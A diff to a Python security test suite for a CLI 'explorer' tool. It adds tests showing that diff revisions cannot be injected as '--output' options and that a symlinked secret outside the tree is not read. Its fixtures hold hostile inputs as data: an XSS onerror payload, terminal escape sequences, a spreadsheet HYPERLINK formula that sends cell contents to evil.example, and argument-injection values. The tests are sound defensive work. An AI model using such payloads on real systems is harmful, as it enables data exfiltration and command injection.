@@ -26,6 +26,7 @@ from explorer.sources import SourceError, resolve_source
 
 PAYLOAD = "<img src=x onerror=window.__pwned=1>"
 ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
+SECRET = "secret-model-outside-the-tree"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
@@ -64,7 +65,7 @@ def hostile_tree(base: Path) -> Path:
     (folder / f"broken{PAYLOAD.replace('/', '')}\x1b[2J.json").write_bytes(b"{not json")
     outside = base / "outside"
     outside.mkdir()
-    (outside / "secret.json").write_bytes(orjson.dumps(GOOD))
+    (outside / "secret.json").write_bytes(orjson.dumps(recording("t", SECRET, "secret")))
     (folder / "leak.json").symlink_to(outside / "secret.json")
     return root
 
@@ -182,6 +183,17 @@ def test_git_refs_and_urls_cannot_run_commands(repo, tmp_path, url, ref):
     assert not marker.exists()
 
 
+def test_diff_revisions_cannot_be_options(repo, tmp_path):
+    marker = tmp_path / MARKER
+    result = CliRunner().invoke(main, ["diff", f"--output={marker}", "main", "--repo",
+                                       str(repo)])
+    assert result.exit_code != 0 and not marker.exists()
+    result = CliRunner().invoke(main, ["diff", "--repo", str(repo), "main", "--",
+                                       f"--output={marker}"])
+    assert result.exit_code != 0 and "may not start with '-'" in result.output
+    assert not marker.exists()
+
+
 def test_a_cached_clone_is_fetched_again(repo):
     first, _ = resolve_source(str(repo), "main")
     assert {p.name for p in first.rglob("*.json")} == {"one.json"}
@@ -271,9 +283,11 @@ def test_terminal_output_shows_escapes(tree, tmp_path):
     assert_terminal_safe(show.output)
     base = tmp_path / "base"
     (base / "inference" / "recordings").mkdir(parents=True)
-    for output_format in ("text", "markdown", "json"):
+    for output_format in ("table", "markdown", "json"):
         diff = runner.invoke(main, ["diff", str(base), str(tree), "--format", output_format])
+        assert diff.exit_code in (0, 1) and "evil" in diff.output, diff.output
         assert_terminal_safe(diff.output)
+        assert SECRET not in diff.output  # the link out of the tree is not read
     orjson.loads(runner.invoke(main, ["diff", str(base), str(tree), "--format",
                                       "json"]).output)  # still JSON
 
